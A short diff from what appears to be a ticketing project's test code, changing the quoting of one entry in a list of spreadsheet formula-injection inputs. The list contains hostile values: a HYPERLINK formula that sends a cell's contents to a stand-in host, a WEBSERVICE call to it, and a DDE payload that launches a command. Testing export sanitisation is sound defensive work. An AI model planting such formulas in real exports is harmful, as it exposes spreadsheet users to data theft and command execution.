@@ -16,7 +16,7 @@ from hamdel.tickets.models import Conversation
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "=WEBSERVICE(\"http://evil.example\")",
+    '=WEBSERVICE("http://evil.example")',
     "=cmd|' /C calc'!A0",
     "+1+2",
     "-2+3",
